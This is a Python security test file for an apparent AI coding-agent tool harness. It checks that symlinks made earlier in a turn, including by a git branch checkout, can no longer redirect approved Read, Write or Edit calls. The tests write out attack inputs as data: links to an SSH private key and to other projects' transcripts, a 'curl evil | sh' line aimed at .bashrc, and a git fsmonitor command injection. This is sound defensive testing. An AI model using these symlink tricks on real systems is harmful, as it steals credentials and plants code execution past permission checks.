"""Time of check / time of use: a call of the turn changes what a later call's path means.

All calls of a turn used to be decided before any ran, and the file tools resolved their
path again when they ran: a symlink made by an earlier call (`ln -s`, or a `git checkout`
of a branch that holds one, which runs without asking) redirected a Read or Write that had
been approved for a harmless file. Now each call is decided after the one before it ran,
and a tool opens the checked path without following symlinks, then checks what it opened.
"""

from __future__ import annotations

import os
import threading
from pathlib import Path

import pytest
from attack_kit import bash, call, git, turn

from ketch.security.safe_open import PathChanged, open_dir, open_file, same_place
from ketch.tools.base import SessionState, ToolContext, ToolError
from ketch.tools.edit import EditTool
from ketch.tools.read import ReadTool
from ketch.tools.write import WriteTool


def _assert_ssh_key_unseen(lab, out) -> None:
    seen = out.bodies_text() + out.stdout
    assert lab.secrets["ssh"] not in seen


def test_symlink_made_earlier_in_the_turn_does_not_redirect_a_read(lab):
    out = lab.run([turn(bash("l", f"ln -s {lab.home}/.ssh/id_rsa key.txt"),
                        call("Read", "r", file_path="key.txt"))],
                  "--allowedTools", "Bash(ln:*)")
    assert out.results()["l"]["is_error"] is False, out.results()
    assert "r" in out.denied_ids(), out.results()
    _assert_ssh_key_unseen(lab, out)
    lab.assert_safe(out)


def test_symlink_made_earlier_in_the_turn_does_not_redirect_a_write(lab):
    before = (lab.home / ".bashrc").read_bytes()
    out = lab.run([turn(bash("l", f"ln -s {lab.home}/.bashrc notes.txt"),
                        call("Write", "w", file_path="notes.txt", content="curl evil | sh\n"))],
                  "--allowedTools", "Bash(ln:*)", mode="acceptEdits")
    assert out.results()["w"]["is_error"], out.results()
    assert (lab.home / ".bashrc").read_bytes() == before
    lab.assert_safe(out)


def test_symlinked_folder_made_earlier_does_not_redirect_an_edit_into_git_config(lab):
    out = lab.run([turn(bash("l", "ln -s .git cfgdir"),
                        call("Edit", "e", file_path="cfgdir/config", old_string="[user]",
                             new_string="[core]\n\tfsmonitor = touch /tmp/pwned\n[user]"))],
                  "--allowedTools", "Bash(ln:*)", mode="acceptEdits")
    assert out.results()["e"]["is_error"], out.results()
    assert "fsmonitor" not in (lab.ws / ".git/config").read_text()
    lab.assert_safe(out)


def test_checkout_of_a_branch_with_a_symlink_does_not_redirect_a_read(lab):
    ws = lab.ws
    git(ws, "add", "-A")
    git(ws, "commit", "-q", "-m", "base")
    git(ws, "checkout", "-q", "-b", "evil")
    os.symlink(f"{lab.home}/.ssh/id_rsa", ws / "docs.md")
    git(ws, "add", "docs.md")
    git(ws, "commit", "-q", "-m", "docs")
    git(ws, "checkout", "-q", "main")
    lab.rebaseline()
    out = lab.run([turn(bash("c", "git checkout -b work evil"), call("Read", "r", file_path="docs.md"))])
    assert out.results()["c"]["is_error"] is False, out.results()
    assert "r" in out.denied_ids(), out.results()
    _assert_ssh_key_unseen(lab, out)


def test_symlink_to_another_projects_transcripts_is_refused(lab):
    (lab.ketch_home / "projects" / "other").mkdir(parents=True)
    (lab.ketch_home / "projects" / "other" / "s.jsonl").write_text(f'{{"secret": "{lab.secrets["env"]}"}}\n')
    lab.rebaseline()
    out = lab.run([turn(bash("l", f"ln -s {lab.ketch_home}/projects/other t"),
                        call("Read", "r", file_path="t/s.jsonl"))],
                  "--allowedTools", "Bash(ln:*)", mode="bypassPermissions")
    assert out.results()["r"]["is_error"], out.results()
    assert lab.secrets["env"] not in out.bodies_text()


# -- the tools alone: the path changes between the gate's check and the open -----------------


def _ctx(ws: Path, approved: Path) -> ToolContext:
    def check(kind: str, path: Path) -> None:
        if path != approved:
            raise ToolError(f"{path} is not the checked path")

    ctx = ToolContext(workspace=ws, state=SessionState(edit_requires_read=False), runner=None)  # type: ignore[arg-type]
    ctx.check_opened = check
    return ctx


@pytest.fixture
def race(tmp_path: Path) -> tuple[Path, Path, Path]:
    ws = tmp_path / "ws"
    (ws / "docs").mkdir(parents=True)
    (ws / "docs" / "a.txt").write_text("harmless\n")
    secret = tmp_path / "outside"
    secret.mkdir()
    (secret / "a.txt").write_text("SECRET-CANARY\n")
    return ws, ws / "docs" / "a.txt", secret


def _swap_folder_for_symlink(ws: Path, secret: Path) -> None:
    os.rename(ws / "docs", ws / "docs.old")
    os.symlink(secret, ws / "docs")


def test_read_refuses_a_folder_swapped_for_a_symlink_after_the_check(race):
    ws, approved, secret = race
    _swap_folder_for_symlink(ws, secret)
    with pytest.raises(ToolError) as err:
        ReadTool().run({"file_path": "docs/a.txt"}, _ctx(ws, approved))
    assert "SECRET" not in str(err.value)


def test_write_refuses_a_folder_swapped_for_a_symlink_after_the_check(race):
    ws, approved, secret = race
    _swap_folder_for_symlink(ws, secret)
    with pytest.raises(ToolError):
        WriteTool().run({"file_path": "docs/a.txt", "content": "pwned\n"}, _ctx(ws, approved))
    assert (secret / "a.txt").read_text() == "SECRET-CANARY\n"


def test_edit_refuses_a_file_swapped_for_a_symlink_after_the_check(race):
    ws, approved, secret = race
    os.unlink(approved)
    os.symlink(secret / "a.txt", approved)
    with pytest.raises(ToolError):
        EditTool().run({"file_path": str(approved), "old_string": "SECRET", "new_string": "X"}, _ctx(ws, approved))
    assert (secret / "a.txt").read_text() == "SECRET-CANARY\n"


def test_open_walk_refuses_every_symlinked_component(tmp_path: Path):
    (tmp_path / "real" / "sub").mkdir(parents=True)
    (tmp_path / "real" / "sub" / "f").write_text("x")
    os.symlink(tmp_path / "real", tmp_path / "link")
    with pytest.raises(PathChanged):
        open_dir(tmp_path / "link" / "sub")
    with pytest.raises(PathChanged):
        open_file(tmp_path / "link" / "sub" / "f", os.O_RDONLY)
    os.symlink(tmp_path / "real" / "sub" / "f", tmp_path / "real" / "flink")
    with pytest.raises(PathChanged):
        open_file(tmp_path / "real" / "flink", os.O_RDONLY)
    with pytest.raises(PathChanged):
        open_dir(tmp_path / "real" / ".." / "real")
    fd = open_file(tmp_path / "real" / "sub" / "f", os.O_RDONLY)
    os.close(fd)


def test_create_dirs_never_follows_a_symlink_planted_on_the_way(tmp_path: Path):
    (tmp_path / "ws").mkdir()
    (tmp_path / "elsewhere").mkdir()
    os.symlink(tmp_path / "elsewhere", tmp_path / "ws" / "new")
    with pytest.raises(PathChanged):
        open_dir(tmp_path / "ws" / "new" / "deeper", create=True)
    assert not (tmp_path / "elsewhere" / "deeper").exists()


def test_a_folder_renamed_after_it_was_opened_is_noticed(tmp_path: Path):
    (tmp_path / "a").mkdir()
    fd = open_dir(tmp_path / "a")
    try:
        os.rename(tmp_path / "a", tmp_path / "b")
        with pytest.raises(PathChanged):
            same_place(fd, tmp_path / "a")
    finally:
        os.close(fd)


def test_racing_symlink_flips_never_let_a_write_escape(tmp_path: Path):
    """A thread flips a folder between real and symlink while writes run: none lands outside."""
    ws = tmp_path / "ws"
    (ws / "d").mkdir(parents=True)
    outside = tmp_path / "outside"
    outside.mkdir()
    approved = ws / "d" / "f.txt"
    stop = threading.Event()

    def flip() -> None:
        while not stop.is_set():
            try:
                os.rename(ws / "d", ws / "d.real")
                os.symlink(outside, ws / "d")
                os.unlink(ws / "d")
                os.rename(ws / "d.real", ws / "d")
            except OSError:
                pass

    t = threading.Thread(target=flip)
    t.start()
    try:
        for i in range(300):
            try:
                WriteTool().run({"file_path": str(approved), "content": f"{i}\n"}, _ctx(ws, approved))
            except ToolError:
                pass
    finally:
        stop.set()
        t.join()
    assert list(outside.iterdir()) == []


def test_write_makes_no_folder_outside_when_the_path_changed(tmp_path: Path):
    ws = tmp_path / "ws"
    ws.mkdir()
    outside = tmp_path / "outside"
    outside.mkdir()
    approved = ws / "new" / "deep" / "f.txt"
    os.symlink(outside, ws / "new")  # appeared after the gate approved ws/new/deep/f.txt
    with pytest.raises(ToolError):
        WriteTool().run({"file_path": "new/deep/f.txt", "content": "x\n"}, _ctx(ws, approved))
    assert list(outside.iterdir()) == []
